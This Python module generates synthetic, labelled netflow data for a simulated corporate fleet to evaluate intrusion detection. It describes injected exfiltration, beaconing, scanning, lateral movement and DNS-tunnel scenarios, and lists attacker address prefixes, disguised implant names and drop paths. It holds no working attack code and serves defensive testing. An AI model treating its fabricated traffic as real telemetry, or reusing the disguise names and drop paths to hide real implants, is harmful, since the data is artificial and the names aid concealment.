"""A labelled fleet traffic generator: flow windows as our endpoint agent emits them, plus attacks.

:func:`simulate` builds a fleet of hosts (workstations of office staff and developers, a few servers)
with realistic applications, and produces for each the rows of ``netflow_flows`` (every column of
:data:`fleet_analytics.ingest.filters.FLOW_COLUMNS`) over a time range, then injects labelled attack
scenarios (:data:`SCENARIOS`) on hosts the seed picks. It is pure and deterministic for its arguments:
the demo, the detection evaluation and the tests all see the same fleet for the same seed, and the
normal rows do not depend on which attacks are injected (``attacks=()`` gives exactly the unlabelled
rows of any other run with the same seed).

How rows come about: each application opens connections (a 5-tuple owned by a process) and moves
bytes in *events* (connect, data, close, accept, connect_failed) at whole epoch seconds; the events
are then aggregated per connection and window exactly as the agent's ``flows_aggregate.sql`` does
(counters summed, ``connections`` = connect/accept events, activity the most significant, first_seen
and last_seen the earliest and latest event). Everything is vectorised with numpy per host and
application, never per row.

The fleet:

* hosts ``ws-NNNN.corp.example`` (office staff, developers) and ``srv-NNNN.corp.example`` (servers),
  one IPv4 address each in 10.20.0.0/16, some dual stack (2001:db8:20::/48), a timezone offset, a
  volume multiplier (lognormal), laptops (on only while used) or machines left on, reboots;
* working days with arrival, lunch and departure drawn per host and day, meetings, evenings, absent
  days and vacations, weekends mostly off; servers run around the clock and do their work at night;
* applications with fixed paths, one sha256 per binary version fleet-wide (hosts pick a version),
  pids stable per process lifetime: browsers (Zipf-distributed sites of a pool of a few thousand CDN
  and web addresses, TCP and QUIC, IPv6 where both ends can, intranet), systemd-resolved (every active
  window, to 10.0.0.53/54), systemd-timesyncd, apt (twice a day, 2-3 mirrors, large downloads),
  a sync client (a benign beacon to its cloud endpoint every N minutes, occasional large uploads),
  chat (a long-lived websocket with keepalives), mail (IMAPS IDLE, SMTP submission), ssh and git
  over ssh for developers; on servers nginx (accepting the browsers' intranet connections: both
  sides of such a flow are simulated and share their Community ID), a node exporter scraped every
  15 s, sshd for the developers' sessions and a nightly backup upload.

The attacks (each row of an attack is labelled with its scenario in the ``scenario`` column; the
normal rows have ""):

=================  ===================================================================================
exfiltration       curl, rclone or the host's browser uploads hundreds of MB over tens of minutes to
                   a couple of hours to an address never seen in the fleet, at a laptop's uplink rate
beaconing          an implant in the user's ~/.cache connects every 60-300 s (jitter 10-20 %) with
                   small, nearly constant sizes to one rare address, for hours (while the host is on)
port_scan          nmap or a script probes hundreds to thousands of ports of 1-3 internal servers:
                   mostly connect_failed, no payload
host_sweep         one process probes 445 and/or 22 across hundreds of addresses of 10.20.0.0/16
lateral_movement   SMB, RDP and ssh to other workstations (in a fleet of one: internal servers) from
                   a host and processes that never do;
                   the ssh sessions that succeed move moderate bytes, and the peers' sshd accepts
                   them (labelled rows on those peers too)
dns_tunnel         a script sends 20-120 DNS queries a minute, larger than normal both ways, straight
                   to a public resolver, for hours
rare_binary        a binary no other host has talks to an address no other host talks to, modestly
=================  ===================================================================================

:func:`result_lines` turns the rows into osquery result-log lines, :func:`feed` sends them through
the real osquery TLS API (enroll, then gzip log batches with idempotency keys), and
:func:`http_post` is the HTTP client for a running service. ``python -m fleet_analytics.simulate``
does both from the command line.
"""

from __future__ import annotations

import argparse
import base64
import gzip
import hashlib
import http.client
import json
import os
import socket
import ssl
import sys
import time
import urllib.parse
from collections.abc import Callable, Sequence
from dataclasses import asdict, dataclass, field, replace
from typing import Any, Final

import numpy as np
import numpy.typing as npt
import pandas as pd

from extension.results import FLOWS_QUERY, result_line
from fleet_analytics.ingest.filters import FLOW_COLUMNS, INTEGER_COLUMNS

__all__ = [
    "SCENARIOS",
    "FeedReport",
    "HttpPost",
    "Injection",
    "Post",
    "Simulation",
    "feed",
    "http_post",
    "result_lines",
    "simulate",
]

SCENARIOS: Final[tuple[str, ...]] = (
    "exfiltration",
    "beaconing",
    "port_scan",
    "host_sweep",
    "lateral_movement",
    "dns_tunnel",
    "rare_binary",
)
DOMAIN: Final = "corp.example"
MAX_HOSTS: Final = 9999
MAX_DAYS: Final = 31.0
WINDOW_RANGE: Final = (10, 3600)

IntArray = npt.NDArray[np.int64]
FloatArray = npt.NDArray[np.float64]
BoolArray = npt.NDArray[np.bool_]
ObjArray = npt.NDArray[np.object_]
Post = Callable[[str, dict[str, str], bytes], tuple[int, dict[str, Any]]]

# activities by rank (extension.events.ACTIVITY_RANK: the most significant wins in a window)
CLOSE: Final = 1
DATA: Final = 2
ACCEPT: Final = 4
CONNECT: Final = 5
FAILED: Final = 6
ACTIVITY_NAMES: Final = ("data", "close", "data", "listen", "accept", "connect", "connect_failed")
TCP: Final = 0
UDP: Final = 1
PROTOCOL_NAMES: Final = ("tcp", "udp")
PROTOCOL_NUMBERS: Final = (6, 17)
OUTBOUND: Final = 0
INBOUND: Final = 1
DIRECTION_NAMES: Final = ("outbound", "inbound")
EPHEMERAL_LOW: Final = 32768
EPHEMERAL_COUNT: Final = 60999 - 32768 + 1
PID_MAX: Final = 4194304
NEVER: Final = 2**62  # a process that outlives the simulation
MIB: Final = 1 << 20


# -- public records --------------------------------------------------------------------------------


@dataclass(frozen=True)
class Injection:
    """One injected attack. Its rows are labelled ``scenario`` in :attr:`Simulation.flows`; they all
    lie in the windows ``[start, end)`` (aligned to the window length), on ``host_identifier`` (for
    ``lateral_movement`` and ``host_sweep`` also on the peers that accepted a connection)."""

    scenario: str
    host_identifier: str
    start: int  # epoch s, the first window of the attack's rows
    end: int  # epoch s, the end of its last window
    process_path: str
    process_sha256: str
    remote_addresses: tuple[str, ...]  # the destinations (targets) of the attack
    description: str


@dataclass(frozen=True, eq=False)  # eq: a DataFrame has no truth value; compare .flows with pandas
class Simulation:
    """A simulated fleet. ``flows`` has one row per flow window: every column of FLOW_COLUMNS
    (integers int64, text str) plus ``host_identifier`` and ``scenario`` ("" for normal rows, else
    the scenario's name), ordered by window_start, then host, then connection. ``hosts`` are all
    the hosts (a host may have no rows: a laptop that stayed off)."""

    flows: pd.DataFrame
    injections: tuple[Injection, ...]
    hosts: tuple[str, ...]
    start: int
    end: int
    window_seconds: int


@dataclass(frozen=True)
class FeedReport:
    """What :func:`feed` sent, and what the service said it did with it."""

    hosts: int
    rows: int
    requests: int
    seconds: float
    stored: int = 0  # flow rows the service stored
    duplicates: int = 0  # flow rows it already had
    quarantined: int = 0
    replayed: int = 0  # batches it had already stored (same idempotency key): nothing written


# -- the fleet's fixed vocabulary --------------------------------------------------------------------


@dataclass(frozen=True)
class _Os:
    key: str
    name: str
    version: str
    platform: str
    systemd: str
    apt: str
    openssh: str
    python: str  # path of the python3 binary
    python_version: str
    curl: str
    resolve_uid: int
    timesync_uid: int
    mirrors: tuple[tuple[str, tuple[str, ...]], ...]  # (hostname, addresses); http port 80
    ntp: tuple[str, tuple[str, ...]]


_UBUNTU_MIRRORS: Final = (
    ("archive.ubuntu.com", ("91.189.91.81", "91.189.91.82", "185.125.190.36", "185.125.190.39")),
    ("security.ubuntu.com", ("91.189.91.83", "185.125.190.81", "185.125.190.82")),
)
OSES: Final = (
    _Os(
        "ubuntu-24.04", "Ubuntu", "24.04.1 LTS (Noble Numbat)", "ubuntu", "255.4-1ubuntu8.4",
        "2.7.14build2", "1:9.6p1-3ubuntu13.5", "/usr/bin/python3.12", "3.12.3", "8.5.0-2ubuntu10.6",
        991, 992, _UBUNTU_MIRRORS, ("ntp.ubuntu.com", ("185.125.190.56", "185.125.190.57", "91.189.91.157")),
    ),
    _Os(
        "ubuntu-22.04", "Ubuntu", "22.04.5 LTS (Jammy Jellyfish)", "ubuntu", "249.11-0ubuntu3.12",
        "2.4.13", "1:8.9p1-3ubuntu0.10", "/usr/bin/python3.10", "3.10.12", "7.81.0-1ubuntu1.18",
        101, 102, _UBUNTU_MIRRORS, ("ntp.ubuntu.com", ("185.125.190.58", "91.189.94.4")),
    ),
    _Os(
        "debian-12", "Debian GNU/Linux", "12 (bookworm)", "debian", "252.33-1~deb12u1", "2.6.1",
        "1:9.2p1-2+deb12u3", "/usr/bin/python3.11", "3.11.2", "7.88.1-10+deb12u8", 996, 997,
        (
            ("deb.debian.org", ("151.101.2.132", "151.101.66.132", "151.101.130.132")),
            ("security.debian.org", ("151.101.194.132", "151.101.2.132")),
        ),
        ("2.debian.pool.ntp.org", ("162.159.200.1", "195.201.19.162", "5.9.80.114")),
    ),
)  # fmt: skip
# third-party repositories apt also visits (hostname, addresses)
_GOOGLE_REPO: Final = ("dl.google.com", ("142.250.185.78", "142.250.186.110"))
_PPA_REPO: Final = ("ppa.launchpadcontent.net", ("185.125.190.80",))

# browsers, chat, mail and sync clients: versions newest first (hosts mostly run the newest)
_FIREFOX_REVS: Final = ("6015", "5836", "5751")
_CHROME_VERSIONS: Final = ("133.0.6943.53", "132.0.6834.110", "131.0.6778.139")
_SLACK_VERSIONS: Final = ("4.41.105", "4.41.97")
_TEAMS_VERSIONS: Final = ("1.12.7", "1.11.5", "1.11.3")
_THUNDERBIRD_VERSIONS: Final = ("128.6.0esr", "128.5.2esr")
_DROPBOX_VERSIONS: Final = ("216.4.4420", "214.4.5634")
_ONEDRIVE_VERSIONS: Final = ("2.5.3", "2.5.2")
_RCLONE_VERSIONS: Final = ("1.68.2", "1.66.0", "1.60.1")
_VERSION_WEIGHTS: Final = (0.62, 0.28, 0.1)
_NETWORK_SERVICE: Final = (
    "--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US "
    "--service-sandbox-type=none --enable-crash-reporter --change-stack-guard-on-fork=enable"
)

# internal services (hostname, address)
_RESOLVERS: Final = (("ns1.corp.example", "10.0.0.53"), ("ns2.corp.example", "10.0.0.54"))
_GIT_SERVER: Final = ("git.corp.example", "10.0.1.10")
_SSH_SERVERS: Final = (
    ("jump.corp.example", "10.0.1.5"),
    ("build-01.corp.example", "10.0.1.21"),
    ("build-02.corp.example", "10.0.1.22"),
    ("db-01.corp.example", "10.0.1.31"),
    ("staging-01.corp.example", "10.0.1.41"),
    ("staging-02.corp.example", "10.0.1.42"),
)
_INTRANET: Final = (
    ("intranet.corp.example", "10.0.2.10"),
    ("wiki.corp.example", "10.0.2.11"),
    ("jira.corp.example", "10.0.2.12"),
    ("grafana.corp.example", "10.0.2.20"),
    ("hr.corp.example", "10.0.2.30"),
    ("git.corp.example", "10.0.1.10"),
)
_MONITORING: Final = ("prometheus.corp.example", "10.0.3.5")

# external endpoints of the applications (hostname, addresses)
_SLACK_WSS: Final = ("wss-primary.slack.com", ("35.157.228.16", "3.120.96.215", "18.156.71.153"))
_SLACK_API: Final = (
    ("edgeapi.slack.com", ("3.65.102.105", "18.192.76.182")),
    ("files.slack.com", ("13.32.145.52", "13.32.145.11")),
    ("a.slack-edge.com", ("13.32.145.98", "2600:9000:2490:6a00:1a:a4f2:ce40:93a1")),
)
_TEAMS_WSS: Final = ("teams.microsoft.com", ("52.113.194.132", "52.112.120.204"))
_TEAMS_API: Final = (
    ("teams.events.data.microsoft.com", ("52.113.194.133",)),
    ("statics.teams.cdn.office.net", ("13.107.246.40", "2620:1ec:bdf::40")),
)
_MAIL_IMAP: Final = ("outlook.office365.com", ("52.97.146.178", "52.97.201.34", "40.99.150.50"))
_MAIL_SMTP: Final = ("smtp.office365.com", ("52.97.179.2", "40.101.138.18"))
_DROPBOX: Final = (
    ("bolt.dropbox.com", ("162.125.21.3", "162.125.21.2")),
    ("content.dropboxapi.com", ("162.125.66.14", "162.125.66.15")),
)
_ONEDRIVE: Final = (
    ("graph.microsoft.com", ("20.190.159.4", "40.126.31.69")),
    ("my.microsoftpersonalcontent.com", ("13.107.42.12",)),
)
_RCLONE_S3: Final = ("s3.eu-central-1.amazonaws.com", ("52.219.170.30", "52.219.47.110", "3.5.136.57"))
_BACKUP_S3: Final = ("s3.eu-central-2.wasabisys.com", ("130.117.252.11", "130.117.252.12"))

# the pool of web sites: providers (IPv4 /16 prefixes, IPv6 prefix or "", QUIC)
_PROVIDERS: Final = (
    (("104.16", "104.17", "104.18", "104.21", "172.64", "172.67", "188.114"), "2606:4700", True),
    (("142.250", "142.251", "172.217", "216.58", "172.253"), "2a00:1450:4001", True),
    (("151.101", "199.232", "146.75"), "2a04:4e42", True),
    (("23.32", "23.45", "2.16", "95.100", "184.25"), "2a02:26f0", False),
    (("13.32", "18.64", "52.84", "54.230", "99.86", "108.138"), "2600:9000", True),
    (("3.64", "18.195", "35.156", "52.28", "54.93"), "", False),
    (("20.42", "20.50", "40.126", "52.97", "13.107"), "2603:1026", False),
    (("34.96", "34.102", "35.190", "35.201"), "", True),
    (("78.46", "88.99", "136.243", "51.75", "54.36"), "2a01:4f8", False),
    (("140.82", "185.199"), "2606:50c0", False),
)
_PROVIDER_WEIGHTS: Final = (0.22, 0.12, 0.12, 0.12, 0.14, 0.08, 0.06, 0.05, 0.06, 0.03)
_TOP_SITES: Final = (
    "www.google.com", "www.youtube.com", "i.ytimg.com", "fonts.gstatic.com", "github.com",
    "stackoverflow.com", "en.wikipedia.org", "upload.wikimedia.org", "www.linkedin.com",
    "static.licdn.com", "docs.google.com", "mail.google.com", "accounts.google.com",
    "www.gstatic.com", "apis.google.com", "www.reddit.com", "www.redditstatic.com", "news.ycombinator.com",
    "www.bbc.co.uk", "www.theguardian.com", "www.nytimes.com", "cdn.jsdelivr.net", "unpkg.com",
    "ajax.googleapis.com", "www.amazon.com", "m.media-amazon.com", "login.microsoftonline.com",
    "www.office.com", "outlook.office.com", "aadcdn.msftauth.net", "www.atlassian.com",
    "objects.githubusercontent.com", "avatars.githubusercontent.com", "api.github.com",
    "pypi.org", "files.pythonhosted.org", "docs.python.org", "developer.mozilla.org",
    "www.npmjs.com", "registry.npmjs.org", "hub.docker.com", "www.figma.com", "www.notion.so",
    "zoom.us", "www.dropbox.com", "www.medium.com", "miro.medium.com", "www.twitch.tv",
    "www.spotify.com", "open.spotify.com", "www.heise.de", "www.spiegel.de", "www.lemonde.fr",
    "www.booking.com", "maps.googleapis.com", "www.google-analytics.com", "www.googletagmanager.com",
    "connect.facebook.net", "static.xx.fbcdn.net", "platform.twitter.com", "abs.twimg.com",
    "pbs.twimg.com", "cdnjs.cloudflare.com", "use.typekit.net", "stats.g.doubleclick.net",
)  # fmt: skip
_SYLLABLES: Final = (
    "ar", "bel", "cor", "dan", "el", "fin", "gal", "hal", "is", "jor", "kel", "lum", "mar", "nor",
    "or", "pal", "quin", "ros", "sol", "tam", "ul", "ver", "wil", "xen", "yor", "zan", "tex", "lin",
    "bri", "cas", "dro", "fey", "gra", "hex", "kor", "lo", "mi", "nex", "pro", "sta", "tri", "vo",
)  # fmt: skip
_SUBDOMAINS: Final = ("www", "www", "www", "cdn", "static", "api", "img", "assets", "media", "app")
_TLDS: Final = ("com", "com", "com", "net", "org", "io", "de", "co.uk", "fr", "eu", "dev")
_SITES: Final = 3000
_ZIPF_EXPONENT: Final = 1.07
# attackers' infrastructure: prefixes the normal fleet never talks to
_RARE_PREFIXES: Final = (
    "45.153", "5.188", "91.215", "194.87", "176.97", "89.248", "146.19", "193.42", "85.209", "213.232",
)  # fmt: skip
_PUBLIC_RESOLVERS: Final = (
    ("8.8.8.8", "dns.google"),
    ("1.1.1.1", "one.one.one.one"),
    ("9.9.9.9", "dns9.quad9.net"),
    ("208.67.222.222", "resolver1.opendns.com"),
)
_FIRST_NAMES: Final = (
    "anna", "ben", "carla", "david", "elena", "felix", "greta", "hugo", "ines", "jonas", "katja",
    "lars", "maria", "nils", "olga", "paul", "rosa", "sven", "tara", "ulf", "vera", "wim", "yara",
    "zoe", "amir", "chen", "dmitri", "fatima", "kenji", "lucia", "mehmet", "priya", "raj", "sofia",
)  # fmt: skip
_SURNAMES: Final = (
    "schmidt", "mueller", "fischer", "weber", "meyer", "wagner", "becker", "hoffmann", "koch", "richter",
    "klein", "wolf", "neumann", "schwarz", "braun", "hofmann", "lange", "kowalski", "nowak", "rossi",
    "garcia", "martin", "dubois", "jensen", "nielsen", "smith", "jones", "taylor", "brown", "wilson",
    "tanaka", "sato", "kim", "lee", "patel", "singh", "silva", "costa", "novak", "horvat",
)  # fmt: skip
_TIMEZONES: Final = ((0, 0.3), (3600, 0.4), (7200, 0.15), (-18000, 0.15))  # offset s, share
_BEACON_NAMES: Final = (
    ("mesa_shader_cache", "mesa-update"),
    ("tracker3", "tracker-extract-3"),
    ("fontconfig", "fc-cache-helper"),
    ("gstreamer-1.0", "gst-plugin-scan"),
    ("thumbnails", "thumbnail-sync"),
    ("pip", "pip-selfcheck"),
)
_RARE_BINARIES: Final = (
    "{home}/Downloads/CryptoTrader-2.4.1-x86_64.AppImage",
    "{home}/.local/bin/kdev-sync",
    "/opt/remotedesk/bin/remotedesk-agent",
    "/tmp/.X11-unix/.xsess",  # noqa: S108 - where an attacker drops it, not a file we use
    "{home}/Downloads/invoice_viewer",
)
_TOP_PORTS: Final = (
    21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 389, 443, 445, 465, 587, 636, 873, 993, 995,
    1080, 1433, 1521, 2049, 2375, 3000, 3306, 3389, 5000, 5432, 5601, 5672, 5900, 5985, 6379, 6443,
    8000, 8008, 8080, 8081, 8443, 8888, 9000, 9090, 9100, 9200, 9300, 10250, 11211, 27017,
)  # fmt: skip


def _sha(*parts: str) -> str:
    """The sha256 of a binary version: the same on every host that runs it."""
    return hashlib.sha256("\x00".join(parts).encode()).hexdigest()


def _canonical(address: str) -> tuple[int, str, int, int, int]:
    """(family, canonical text, IPv4 as int, IPv6 high and low 64 bits) of an address."""
    if ":" in address:
        packed = socket.inet_pton(socket.AF_INET6, address)
        value = int.from_bytes(packed, "big")
        return 6, socket.inet_ntop(socket.AF_INET6, packed), 0, value >> 64, value & ((1 << 64) - 1)
    packed = socket.inet_pton(socket.AF_INET, address)
    return 4, socket.inet_ntop(socket.AF_INET, packed), int.from_bytes(packed, "big"), 0, 0


def _i64(values: Any) -> IntArray:
    return np.asarray(values, dtype=np.int64)


def _group_index(counts: IntArray) -> IntArray:
    """For groups of the given sizes laid end to end: each element's index within its group."""
    total = int(counts.sum())
    starts = np.cumsum(counts) - counts
    return np.arange(total, dtype=np.int64) - np.repeat(starts, counts)


def _split(rng: np.random.Generator, totals: IntArray, counts: IntArray) -> IntArray:
    """Split each total into counts[i] random whole parts (same order as np.repeat), summing exactly."""
    owner = np.repeat(np.arange(len(totals)), counts)
    weights = rng.exponential(1.0, len(owner))
    sums = np.bincount(owner, weights, minlength=len(totals))
    parts = np.floor(totals[owner] * weights / np.maximum(sums[owner], 1e-12)).astype(np.int64)
    rest = totals - np.bincount(owner, parts, minlength=len(totals)).astype(np.int64)
    first = np.cumsum(counts) - counts
    has = counts > 0
    parts[first[has]] += rest[has]
    return parts


def _calls(rng: np.random.Generator, sizes: IntArray, chunk: float) -> IntArray:
    """send()/recv() calls that moved these byte counts: at least one per non-empty count, never more
    calls than bytes."""
    if len(sizes) == 0:
        return _i64([])
    per_call = chunk * rng.uniform(0.5, 1.6, len(sizes))
    calls = np.ceil(sizes / per_call).astype(np.int64)
    return np.where(sizes > 0, np.clip(calls, 1, np.maximum(sizes, 1)), 0)


def _lognormal(
    rng: np.random.Generator, median: float, sigma: float, n: int, bounds: tuple[float, float]
) -> IntArray:
    """n whole numbers, lognormal around `median`, clipped to `bounds`."""
    return np.clip(rng.lognormal(np.log(median), sigma, n), *bounds).astype(np.int64)


def _next_true(mask: BoolArray) -> IntArray:
    """For each index, the first index at or after it where mask is true (len(mask) when none)."""
    n = len(mask)
    index = np.where(mask, np.arange(n, dtype=np.int64), n)
    return np.minimum.accumulate(index[::-1])[::-1].astype(np.int64)


# -- the tables a simulation is built of ---------------------------------------------------------------


class _Strings:
    def __init__(self) -> None:
        self.values: list[str] = [""]
        self.index: dict[str, int] = {"": 0}

    def code(self, text: str) -> int:
        found = self.index.get(text)
        if found is None:
            found = self.index[text] = len(self.values)
            self.values.append(text)
        return found

    def array(self) -> ObjArray:
        out = np.empty(len(self.values), dtype=object)
        out[:] = self.values
        return out


class _Remotes:
    """Remote addresses: canonical text, family, hostname, and the address as integers."""

    def __init__(self) -> None:
        self.index: dict[str, int] = {}
        self.text: list[str] = []
        self.family: list[int] = []
        self.hostname: list[str] = []
        self.v4: list[int] = []
        self.hi: list[int] = []
        self.lo: list[int] = []

    def add(self, address: str, hostname: str = "") -> int:
        family, text, v4, hi, lo = _canonical(address)
        found = self.index.get(text)
        if found is not None:
            return found
        self.index[text] = len(self.text)
        self.text.append(text)
        self.family.append(family)
        self.hostname.append(hostname)
        self.v4.append(v4)
        self.hi.append(hi)
        self.lo.append(lo)
        return len(self.text) - 1

    def many(self, endpoint: tuple[str, tuple[str, ...]], *, ipv6: bool = False) -> IntArray:
        """The endpoint's addresses (its IPv6 ones only for a host that has IPv6)."""
        hostname, addresses = endpoint
        return _i64([self.add(address, hostname) for address in addresses if ipv6 or ":" not in address])


class _Columns:
    """Columns of int64 appended in blocks (values broadcast to a common length)."""

    def __init__(self, names: tuple[str, ...]) -> None:
        self.names = names
        self.blocks: dict[str, list[IntArray]] = {name: [] for name in names}
        self.size = 0

    def add(self, **values: Any) -> IntArray:
        arrays = np.broadcast_arrays(*(np.asarray(values[name], dtype=np.int64) for name in self.names))
        length = int(arrays[0].size)
        for name, array in zip(self.names, arrays, strict=True):
            self.blocks[name].append(np.array(array, dtype=np.int64).reshape(-1))
        first = self.size
        self.size += length
        return np.arange(first, first + length, dtype=np.int64)

    def finish(self) -> dict[str, IntArray]:
        return {name: (np.concatenate(parts) if parts else _i64([])) for name, parts in self.blocks.items()}


_PROC_COLUMNS: Final = ("host", "pid", "start", "end", "ppid", "uid", "user", "name", "path", "sha", "cmd")
_CONN_COLUMNS: Final = ("proc", "remote", "proto", "lport", "rport", "direction", "scenario", "mirror")
_EVENT_COLUMNS: Final = ("conn", "t", "bs", "br", "sends", "recvs", "act")


@dataclass
class _Resident:
    """A service or application that runs all the time: one process per boot."""

    ids: IntArray
    pids: IntArray
    starts: IntArray


@dataclass
class _Host:
    index: int
    identifier: str
    short: str
    role: str  # office | developer | server
    os: _Os
    tz: int
    v4: str
    v6: str
    remote: int  # this host's address as a remote of its peers
    user: str
    uid: int
    home: str
    volume: float
    always_on: bool
    sshd: bool
    browsers: tuple[str, ...]
    browser_share: float  # of the first browser, when there are two
    chat: str
    email: bool
    sync: str
    sync_period: int
    versions: dict[str, str]
    favourites: IntArray
    ssh_targets: tuple[int, ...]
    human: FloatArray = field(default_factory=lambda: np.zeros(0))
    on: BoolArray = field(default_factory=lambda: np.zeros(0, dtype=bool))
    boots: IntArray = field(default_factory=lambda: _i64([]))
    pid_base: IntArray = field(default_factory=lambda: _i64([]))
    pid_rate: float = 0.2
    segments: tuple[IntArray, IntArray] = field(default_factory=lambda: (_i64([]), _i64([])))
    resident: dict[str, _Resident] = field(default_factory=dict)
    shell: IntArray = field(default_factory=lambda: _i64([]))  # the login shell's pid per boot


@dataclass
class _Pool:
    """Web sites: per site a range of IPv4 and one of IPv6 positions in `ids` (remote ids), whether it
    speaks QUIC, and the popularity (Zipf) as a cumulative distribution."""

    ids: IntArray
    v4_first: IntArray
    v4_count: IntArray
    v6_first: IntArray
    v6_count: IntArray
    quic: BoolArray
    cdf: FloatArray

    def draw(self, rng: np.random.Generator, n: int) -> IntArray:
        return np.minimum(np.searchsorted(self.cdf, rng.random(n)), len(self.cdf) - 1).astype(np.int64)


def _site_pool(remotes: _Remotes, rng: np.random.Generator) -> _Pool:
    names: list[str] = list(_TOP_SITES)
    seen = set(names)
    while len(names) < _SITES:
        word = "".join(rng.choice(_SYLLABLES, int(rng.integers(2, 4))))
        name = f"{rng.choice(_SUBDOMAINS)}.{word}.{rng.choice(_TLDS)}"
        if name not in seen:
            seen.add(name)
            names.append(name)
    ids: list[int] = []
    v4_first, v4_count, v6_first, v6_count, quic = [], [], [], [], []
    providers = rng.choice(len(_PROVIDERS), _SITES, p=_PROVIDER_WEIGHTS)
    for rank, (name, provider) in enumerate(zip(names, providers, strict=True)):
        prefixes, prefix6, has_quic = _PROVIDERS[int(provider)]
        hostname = name if rng.random() > 0.08 else ""  # names some sites are reached by are never learnt
        v4_first.append(len(ids))
        for _ in range(int(rng.integers(2, 5)) if rank < 200 else int(rng.integers(1, 3))):
            prefix = prefixes[int(rng.integers(len(prefixes)))]
            ids.append(
                remotes.add(f"{prefix}.{int(rng.integers(0, 256))}.{int(rng.integers(1, 255))}", hostname)
            )
        v4_count.append(len(ids) - v4_first[-1])
        v6_first.append(len(ids))
        if prefix6 and rng.random() < (0.6 if rank < 300 else 0.3):
            for _ in range(int(rng.integers(1, 3))):
                groups = [*prefix6.split(":"), f"{int(rng.integers(0, 0x10000)):x}"]
                groups += ["0"] * (6 - len(groups))
                groups += [f"{int(rng.integers(0, 0x10000)):x}", f"{int(rng.integers(1, 0x10000)):x}"]
                ids.append(remotes.add(":".join(groups), hostname))
        v6_count.append(len(ids) - v6_first[-1])
        quic.append(has_quic and rng.random() < 0.8)
    weights = 1.0 / np.arange(1, _SITES + 1) ** _ZIPF_EXPONENT
    return _Pool(
        ids=_i64(ids),
        v4_first=_i64(v4_first),
        v4_count=_i64(v4_count),
        v6_first=_i64(v6_first),
        v6_count=_i64(v6_count),
        quic=np.asarray(quic, dtype=bool),
        cdf=np.cumsum(weights) / weights.sum(),
    )


def _pick_version(rng: np.random.Generator, options: tuple[str, ...]) -> str:
    weights = np.asarray(_VERSION_WEIGHTS[: len(options)])
    return options[int(rng.choice(len(options), p=weights / weights.sum()))]


_APP_VERSIONS: Final = (
    ("firefox", _FIREFOX_REVS),
    ("chrome", _CHROME_VERSIONS),
    ("slack", _SLACK_VERSIONS),
    ("teams", _TEAMS_VERSIONS),
    ("thunderbird", _THUNDERBIRD_VERSIONS),
    ("dropbox", _DROPBOX_VERSIONS),
    ("onedrive", _ONEDRIVE_VERSIONS),
    ("rclone", _RCLONE_VERSIONS),
)


def _fleet(remotes: _Remotes, pool: _Pool, rng: np.random.Generator, count: int) -> list[_Host]:
    servers = round(count * 0.08)
    developers = round(count * 0.25)
    roles = ["server"] * servers + ["developer"] * developers
    roles += ["office"] * (count - len(roles))
    roles = [roles[i] for i in rng.permutation(count)]
    blocks = max(8, -(-count // 150))
    slots = rng.choice(blocks * 241, count, replace=False)
    users: set[str] = set()
    hosts = []
    for index, role in enumerate(roles):
        short = f"{'srv' if role == 'server' else 'ws'}-{index + 1:04d}"
        identifier = f"{short}.{DOMAIN}"
        os = OSES[int(rng.choice(3, p=(0.2, 0.1, 0.7) if role == "server" else (0.62, 0.26, 0.12)))]
        tz = _TIMEZONES[int(rng.choice(len(_TIMEZONES), p=[share for _, share in _TIMEZONES]))][0]
        block = 1 + int(slots[index]) // 241
        v4 = f"10.20.{block}.{10 + int(slots[index]) % 241}"
        v6 = ""
        if rng.random() < 0.55:
            iid = int(rng.integers(1, 2**63)) | ((1 << 63) * int(rng.integers(0, 2)))
            value = (0x20010DB80020 << 80) | (block << 64) | iid
            v6 = socket.inet_ntop(socket.AF_INET6, value.to_bytes(16, "big"))
        if role == "server":
            user, uid, home = "root", 0, "/root"
        else:
            user = f"{rng.choice(_FIRST_NAMES)[0]}{rng.choice(_SURNAMES)}"
            while user in users:
                user = f"{rng.choice(_FIRST_NAMES)[:2]}{rng.choice(_SURNAMES)}{int(rng.integers(2, 99))}"
            users.add(user)
            uid = 1000 if rng.random() < 0.85 else int(rng.integers(1001, 1006))
            home = f"/home/{user}"
        browsers: tuple[str, ...] = ()
        chat = sync = ""
        email = False
        if role != "server":
            first = "firefox" if rng.random() < 0.55 else "chrome"
            other = "chrome" if first == "firefox" else "firefox"
            browsers = (first, other) if rng.random() < 0.15 else (first,)
            if rng.random() < (0.85 if role == "developer" else 0.8):
                chat = "slack" if rng.random() < 0.6 else "teams"
            if rng.random() < 0.55:
                sync = str(rng.choice(("dropbox", "onedrive", "rclone"), p=(0.4, 0.3, 0.3)))
            email = bool(rng.random() < (0.45 if role == "developer" else 0.6))
        favourites = np.unique(np.concatenate([pool.draw(rng, 40), rng.integers(20, 2000, 25)]))
        targets = rng.choice(len(_SSH_SERVERS), int(rng.integers(2, 5)), replace=False)
        hosts.append(
            _Host(
                index=index,
                identifier=identifier,
                short=short,
                role=role,
                os=os,
                tz=tz,
                v4=v4,
                v6=v6,
                remote=remotes.add(v4, identifier),
                user=user,
                uid=uid,
                home=home,
                volume=float(np.clip(rng.lognormal(0.0, 0.45), 0.35, 3.0)),
                always_on=role == "server" or bool(rng.random() < 0.35),
                sshd=role != "office" or bool(rng.random() < 0.25),
                browsers=browsers,
                browser_share=float(rng.uniform(0.6, 0.85)),
                chat=chat,
                email=email,
                sync=sync,
                sync_period=int(rng.choice((120, 300, 600, 900))),
                versions={key: _pick_version(rng, options) for key, options in _APP_VERSIONS},
                favourites=favourites.astype(np.int64),
                ssh_targets=tuple(int(i) for i in targets),
            )
        )
    if not any(host.always_on for host in hosts):
        hosts[int(rng.integers(count))].always_on = True  # someone always leaves a machine on
    return hosts


# -- the simulation ----------------------------------------------------------------------------------


class _Builder:
    """The fleet, its schedules and its traffic: processes, connections and events as int64 columns
    (text as codes into string tables), turned into rows by :meth:`aggregate`."""

    def __init__(self, *, hosts: int, start: int, end: int, window: int, seed: int) -> None:
        self.start = start
        self.end = end
        self.window = window
        self.windows = (end - start) // window
        self.t: IntArray = start + window * np.arange(self.windows, dtype=np.int64)
        self.strings = _Strings()
        self.remotes = _Remotes()
        self.procs = _Columns(_PROC_COLUMNS)
        self.conns = _Columns(_CONN_COLUMNS)
        self.events = _Columns(_EVENT_COLUMNS)
        self.pool = _site_pool(self.remotes, np.random.default_rng([seed, 0]))
        self.hosts = _fleet(self.remotes, self.pool, np.random.default_rng([seed, 1]), hosts)
        self.host_by_v4 = {host.v4: host for host in self.hosts}
        self.servers = [host for host in self.hosts if host.role == "server"]

